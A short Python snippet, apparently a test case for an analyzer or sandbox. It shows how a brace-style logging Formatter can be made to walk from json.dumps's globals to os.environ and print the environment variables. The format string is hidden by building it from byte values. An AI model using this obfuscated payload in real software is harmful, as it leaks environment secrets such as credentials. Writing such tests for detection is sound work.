# reaches: a subclass of Formatter asks for brace style through super
import json, logging
class F(logging.Formatter):
    def __init__(self, fmt):
        super().__init__(fmt, None, "{")
fmt = bytes([123] + list(b"msg.") + [95] * 2 + list(b"globals") + [95] * 2 + list(b"[codecs].sys.modules[os].environ}")).decode()
h = logging.StreamHandler()
h.setFormatter(F(fmt))
log = logging.getLogger("a")
log.addHandler(h)
log.error(json.dumps)
